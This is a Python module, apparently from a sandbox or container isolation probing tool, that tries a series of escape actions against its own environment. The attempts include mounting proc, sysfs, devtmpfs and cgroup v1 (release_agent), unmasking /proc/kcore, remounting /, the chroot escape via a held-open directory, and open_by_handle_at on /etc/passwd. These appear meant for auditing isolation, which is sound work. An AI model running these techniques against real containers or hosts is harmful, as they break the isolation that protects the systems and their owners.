"""Changing what is mounted, and leaving the root directory."""

from __future__ import annotations

import ctypes
import errno
import os
import tempfile

from .core import attempt, call, libc

PREFIX = "mount"

_MS_REMOUNT, _MS_BIND, _MS_REC, _MS_SHARED, _MNT_DETACH = 32, 4096, 16384, 1 << 20, 2
_PIVOT_ROOT, _UMOUNT, _OPEN_TREE, _FSOPEN, _FSPICK, _MOUNT_SETATTR = 155, 166, 428, 430, 433, 442


def _mount(source: str, target: str, kind: str | None, flags: int = 0, data: str = "") -> str:
    arguments = (
        source.encode(),
        target.encode(),
        kind.encode() if kind else None,
        ctypes.c_ulong(flags),
        data.encode(),
    )
    if libc.mount(*arguments) != 0:
        raise OSError(ctypes.get_errno(), "mount")
    return f"mounted {kind or source} on {target}"


def _somewhere() -> str:
    return tempfile.mkdtemp(prefix="attack-")


@attempt("mount.tmpfs", "mount a tmpfs")
def tmpfs() -> str | None:
    return _mount("none", _somewhere(), "tmpfs")


@attempt("mount.proc", "mount a fresh, unmasked /proc")
def proc() -> str | None:
    return _mount("proc", _somewhere(), "proc")


@attempt("mount.sysfs", "mount sysfs")
def sysfs() -> str | None:
    return _mount("sysfs", _somewhere(), "sysfs")


@attempt("mount.cgroup2", "mount the cgroup v2 tree")
def cgroup2() -> str | None:
    return _mount("none", _somewhere(), "cgroup2")


@attempt("mount.cgroup1", "mount a cgroup v1 hierarchy (release_agent)")
def cgroup1() -> str | None:
    return _mount("none", _somewhere(), "cgroup", data="memory")


@attempt("mount.devtmpfs", "mount the host's device nodes")
def devtmpfs() -> str | None:
    return _mount("none", _somewhere(), "devtmpfs")


@attempt("mount.bind", "bind / elsewhere")
def bind() -> str | None:
    return _mount("/", _somewhere(), None, _MS_BIND | _MS_REC)


@attempt("mount.bind_over_proc", "bind a directory over /proc")
def bind_over_proc() -> str | None:
    return _mount(_somewhere(), "/proc", None, _MS_BIND)


@attempt("mount.overlay", "mount an overlay of one's own")
def overlay() -> str | None:
    base = _somewhere()
    for name in ("l", "u", "w", "m"):
        os.mkdir(f"{base}/{name}")
    options = f"lowerdir={base}/l,upperdir={base}/u,workdir={base}/w,userxattr"
    try:
        return _mount("overlay", f"{base}/m", "overlay", data=options)
    except OSError as error:
        if error.errno == errno.EINVAL:  # an upper on an overlay: refused after the permission check
            return "passed the permission check for an overlay"
        raise


@attempt("mount.remount", "remount / with other flags")
def remount() -> str | None:
    return _mount("none", "/", None, _MS_REMOUNT | _MS_BIND)


@attempt("mount.share", "make / shared, so that mounts propagate")
def share() -> str | None:
    return _mount("none", "/", None, _MS_SHARED | _MS_REC)


@attempt("mount.umount_proc", "unmount /proc to see what is under it")
def umount_proc() -> str | None:
    call(_UMOUNT, b"/proc", _MNT_DETACH)
    return "unmounted /proc"


@attempt("mount.umount_mask", "unmount the mask of /proc/kcore", also=(errno.ENOENT,))
def umount_mask() -> str | None:
    call(_UMOUNT, b"/proc/kcore", _MNT_DETACH)
    return "unmounted the mask"


@attempt("mount.umount_dev", "unmount /dev")
def umount_dev() -> str | None:
    call(_UMOUNT, b"/dev", _MNT_DETACH)
    return "unmounted /dev"


@attempt("mount.pivot_root", "pivot_root to a directory")
def pivot_root() -> str | None:
    new = _somewhere()
    try:
        call(_PIVOT_ROOT, new.encode(), new.encode())
    except OSError as error:
        if error.errno in (errno.EINVAL, errno.EBUSY):
            return "passed the permission check of pivot_root"
        raise
    return "pivoted"


@attempt("mount.fsopen", "open a filesystem context (new mount interface)")
def fsopen() -> str | None:
    call(_FSOPEN, b"tmpfs", 0)
    return "got a context for tmpfs"


@attempt("mount.fspick", "pick up the root filesystem for reconfiguration")
def fspick() -> str | None:
    call(_FSPICK, -100, b"/", 0)
    return "got a context for /"


@attempt("mount.open_tree", "clone the mount tree into a descriptor")
def open_tree() -> str | None:
    call(_OPEN_TREE, -100, b"/", 1)
    return "got a detached clone of /"


@attempt("mount.setattr", "change attributes of / through mount_setattr")
def mount_setattr() -> str | None:
    call(_MOUNT_SETATTR, -100, b"/", 0, (ctypes.c_char * 32)(), 32)
    return "changed the attributes of /"


def _root_identity() -> tuple[int, int]:
    status = os.stat("/")
    return status.st_dev, status.st_ino


@attempt("mount.dotdot", "leave / through ..")
def dotdot() -> str | None:
    before = _root_identity()
    status = os.stat("/" + "../" * 64)
    return None if (status.st_dev, status.st_ino) == before else "reached another directory above /"


@attempt("mount.chroot", "leave / by chroot with a directory held open outside it")
def chroot() -> str | None:
    before = _root_identity()
    outside = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    os.chroot(_somewhere())
    os.fchdir(outside)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return None if _root_identity() == before else f"reached another root: {sorted(os.listdir('/'))[:8]}"


@attempt("mount.symlink", "leave / through a symbolic link of many ..")
def symlink() -> str | None:
    link = f"{_somewhere()}/up"
    os.symlink("../" * 64, link)
    status = os.stat(link)
    return None if (status.st_dev, status.st_ino) == _root_identity() else "a link reached another directory above /"


@attempt("mount.lower_paths", "open the layers by the paths that mountinfo shows", also=(errno.ENOENT,))
def lower_paths() -> str | None:
    with open("/proc/self/mountinfo", encoding="utf-8") as handle:
        text = handle.read()
    for line in text.splitlines():
        for option in line.split()[-1].split(","):
            name, _, value = option.partition("=")
            if name in ("lowerdir", "upperdir", "workdir", "lowerdir+"):
                for path in value.split(":"):
                    if path and os.path.exists(path):
                        return f"{path} ({name}) is reachable"
    return None


@attempt("mount.open_by_handle", "open a file by its handle, past every path")
def open_by_handle() -> str | None:
    handle = ctypes.create_string_buffer(8 + 128)
    ctypes.memmove(handle, (128).to_bytes(4, "little"), 4)
    mount_id = ctypes.create_string_buffer(4)
    try:
        call(303, -100, b"/etc/passwd", handle, mount_id, 0)  # name_to_handle_at
    except OSError as error:
        if error.errno != errno.EOPNOTSUPP:
            raise
        ctypes.memmove(handle, (8).to_bytes(4, "little") + (1).to_bytes(4, "little"), 8)
    root = os.open("/", os.O_RDONLY)
    try:
        call(304, root, handle, os.O_RDONLY)  # open_by_handle_at
    except OSError as error:
        if error.errno in (errno.ESTALE, errno.EINVAL, errno.EOPNOTSUPP):
            return f"passed the permission check (then {errno.errorcode[error.errno]})"
        raise
    return "opened a file by handle"
